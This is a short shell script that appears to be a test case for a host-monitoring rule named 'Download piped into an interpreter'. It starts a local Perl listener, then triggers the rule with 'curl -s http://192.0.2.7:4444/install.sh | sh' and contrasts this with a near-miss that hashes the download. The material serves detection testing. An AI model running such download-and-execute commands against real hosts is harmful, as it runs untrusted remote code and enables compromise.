# rule: Download piped into an interpreter
# where: host
# needs: bash curl perl
attack() {
    echo '
    use IO::Socket;
    my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(R, ">", "ready"); close R; alarm 8;
    my $c = $l->accept;
    1 while ($_ = <$c>) =~ /\S/; print $c "HTTP/1.0 200 OK\r\n\r\ntrue\n";
    $c->flush; shutdown($c, 1); 1 while <$c>;
    ' > master.pl
    perl master.pl &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c 'curl -s http://192.0.2.7:4444/install.sh | sh'
}
near_miss() {
    echo '
    use IO::Socket;
    my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(R, ">", "ready"); close R; alarm 8;
    my $c = $l->accept;
    1 while ($_ = <$c>) =~ /\S/; print $c "HTTP/1.0 200 OK\r\n\r\ntrue\n";
    $c->flush; shutdown($c, 1); 1 while <$c>;
    ' > master.pl
    perl master.pl &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c 'curl -s http://192.0.2.7:4444/install.sh | sha256sum > /dev/null'
}
